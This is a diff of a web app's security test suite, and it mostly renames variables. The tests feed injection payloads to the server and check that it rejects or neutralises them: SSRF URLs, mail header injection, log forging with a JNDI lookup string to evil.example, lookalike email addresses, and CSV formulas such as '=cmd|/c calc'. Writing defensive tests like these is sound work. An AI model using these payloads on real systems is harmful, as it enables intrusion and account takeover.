@@ -12,9 +12,9 @@ import { Visitor } from '../../lab/visitor.js';
 afterAll(closeDatabase);
 
 describe('texts', () => {
-  attack('make the server call no URL: those in fields are text [T39, API7]', async (choose) => {
+  attack('make the server call no URL: those in fields are text [T39, API7]', async (random) => {
     const attacker = await listener();
-    const url = choose.one('address', [
+    const url = random.one('address', [
       attacker.origin,
       `${attacker.origin}/x.png`,
       attacker.origin.replace('127.0.0.1', 'localhost'),
@@ -46,11 +46,11 @@ describe('texts', () => {
     expect(attacker.calls).toEqual([]);
   });
 
-  attack('add no recipient and no header to a mail [T40]', async (choose) => {
+  attack('add no recipient and no header to a mail [T40]', async (random) => {
     const victim = newEmail();
     const sender = newEmail();
-    const line = choose.one('line', ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\\r\\n']);
-    const header = choose.one('header', [
+    const line = random.one('line', ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\\r\\n']);
+    const header = random.one('header', [
       `bcc: ${victim}`,
       `to: ${victim}`,
       'list-unsubscribe: <https://evil.example>',
@@ -69,7 +69,7 @@ describe('texts', () => {
       `"${victim}"@example.in`,
       `=?utf-8?q?${victim}?=@example.in`,
     ];
-    for (const email of choose.shuffled(urls)) {
+    for (const email of random.shuffled(urls)) {
       await Visitor.client().post('/api/user/register', {
         name: 'Asha Rao',
         email,
@@ -92,13 +92,13 @@ describe('texts', () => {
     for (const mail of await allMails()) expect(mail.to).toHaveLength(1);
   });
 
-  attack('forge no line of a log [T41]', async (choose) => {
-    const mark = choose.text('mark', 16);
-    const line = choose.one('line', ['\n', '\r\n', '\u2028', '\u0085', '%0a', '\u001b[2K\u001b[1A']);
-    const forged = `${mark}${line}{"level":"info","msg":"forged ${mark}"}\${jndi:ldap://evil.example/${mark}}`;
+  attack('forge no line of a log [T41]', async (random) => {
+    const marker = random.text('mark', 16);
+    const line = random.one('line', ['\n', '\r\n', '\u2028', '\u0085', '%0a', '\u001b[2K\u001b[1A']);
+    const forged = `${marker}${line}{"level":"info","msg":"forged ${marker}"}\${jndi:ldap://evil.example/${marker}}`;
     await Visitor.client().get(`/api/course/${encodeURIComponent(forged)}`, {
-      'x-request-id': mark.repeat(20),
-      'user-agent': `agent ${mark}`,
+      'x-request-id': marker.repeat(20),
+      'user-agent': `agent ${marker}`,
     });
     await Visitor.client().post('/api/user/login', { email: `${forged}@example.in`, password: forged });
     await Visitor.client().post('/api/registry/reports', { reports: [{ message: forged }] });
@@ -109,22 +109,22 @@ describe('texts', () => {
     const logged = ['bff', 'auth', 'catalog', 'payment'].flatMap((name) =>
       logOf(name)
         .split('\n')
-        .filter((one) => one.includes(mark)),
+        .filter((one) => one.includes(marker)),
     );
     // Forging needs a log line.
     expect(logged).not.toEqual([]);
     for (const text of logged) {
       expect(() => JSON.parse(text)).not.toThrow();
-      expect(JSON.parse(text)).not.toMatchObject({ msg: `forged ${mark}` });
+      expect(JSON.parse(text)).not.toMatchObject({ msg: `forged ${marker}` });
       expect(text).not.toContain('\u001b');
     }
   });
 
-  attack('lead to one account if they only look alike, and never to another user’s [T42]', async (choose) => {
-    const local = `jose${choose.text('name', 8)}`;
+  attack('lead to one account if they only look alike, and never to another user’s [T42]', async (random) => {
+    const local = `jose${random.text('name', 8)}`;
     const email = `${local}@example.in`;
     await signUp(Visitor.client(), email);
-    const spelling = choose.one('spelling', [
+    const spelling = random.one('spelling', [
       email.toUpperCase(),
       email.replace('jose', 'JOSE'),
       ` ${email}`,
@@ -136,7 +136,7 @@ describe('texts', () => {
       password: 'Seven quiet herons 7',
     });
     expect(await count('auth', 'users', 'LOWER(TRIM(email)) = ?', [email])).toBe(1);
-    const alike = choose.one('alike', [
+    const alike = random.one('alike', [
       email.replace('jose', 'josé'),
       email.replace('jose', 'jоse'),
       email.replace('i', 'ı'),
@@ -148,10 +148,10 @@ describe('texts', () => {
     ).toBeGreaterThanOrEqual(400);
   });
 
-  attack('are one phone number in every notation, or an error at the field [T43]', async (choose) => {
+  attack('are one phone number in every notation, or an error at the field [T43]', async (random) => {
     const member = await signUp();
-    const digits = `9${choose.text('digits', 9, '0123456789')}`;
-    const good = choose.one('good', [
+    const digits = `9${random.text('digits', 9, '0123456789')}`;
+    const good = random.one('good', [
       digits,
       `+91${digits}`,
       `0${digits}`,
@@ -159,7 +159,7 @@ describe('texts', () => {
       `91-${digits}`,
       `(+91) ${digits}`,
     ]);
-    const bad = choose.one('bad', [
+    const bad = random.one('bad', [
       `${digits}123`,
       '12345',
       '+1 212 555 0100',
@@ -178,9 +178,9 @@ describe('texts', () => {
     expect((await member.get('/api/user/me')).json()).toMatchObject({ user: { phone: digits } });
   });
 
-  attack('are no formula in an exported table, whatever separates its cells [T45, H11]', async (choose) => {
-    const separator = choose.one('separator', [',', ';', '\t', '|']);
-    const formula = choose.one('formula', [
+  attack('are no formula in an exported table, whatever separates its cells [T45, H11]', async (random) => {
+    const separator = random.one('separator', [',', ';', '\t', '|']);
+    const formula = random.one('formula', [
       '=HYPERLINK("https://evil.example")',
       '+1+1',
       '-2+3',
@@ -188,14 +188,14 @@ describe('texts', () => {
       '\t=1',
       '=cmd|/c calc',
     ]);
-    const mark = choose.text('mark', 10);
-    const text = choose.one('where', [`${mark}${separator}${formula}`, `${formula} ${mark}`]);
-    const chief = await admin();
+    const marker = random.text('mark', 10);
+    const text = random.one('where', [`${marker}${separator}${formula}`, `${formula} ${marker}`]);
+    const adminUser = await admin();
     const member = await signUp();
     const renamed = await member.put('/api/user/update', { name: text });
     expect([200, 400]).toContain(renamed.status);
     const course = await newItem('course', { title: text.replaceAll('\t', ' ') });
-    const given = await chief.post('/api/admin/enrollments', {
+    const given = await adminUser.post('/api/admin/enrollments', {
       userId: member.user.id,
       itemType: 'course',
       itemId: course.id,
@@ -203,17 +203,17 @@ describe('texts', () => {
     });
     expect(given.status).toBe(200);
     const lines = await eventually('all entries', async () => {
-      const file = (await chief.get('/api/admin/audit/export')).text;
-      const found = file.split('\n').filter((line) => line.includes(mark));
+      const file = (await adminUser.get('/api/admin/audit/export')).text;
+      const found = file.split('\n').filter((line) => line.includes(marker));
       return found.length > (renamed.status === 200 ? 1 : 0) && found;
     });
-    for (const line of lines) noFormulaIn(line, mark);
+    for (const line of lines) noFormulaIn(line, marker);
   });
 });
 
-function noFormulaIn(line: string, mark: string): void {
+function noFormulaIn(line: string, marker: string): void {
   const cells = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)];
-  expect(cells.some(([cell]) => cell.includes(mark))).toBe(true);
+  expect(cells.some(([cell]) => cell.includes(marker))).toBe(true);
   for (const [, quoted, bare] of cells) {
     const cell = quoted ?? bare ?? '';
     expect([cell, /^\s*[=+@-]/.test(cell)]).toEqual([cell, false]);
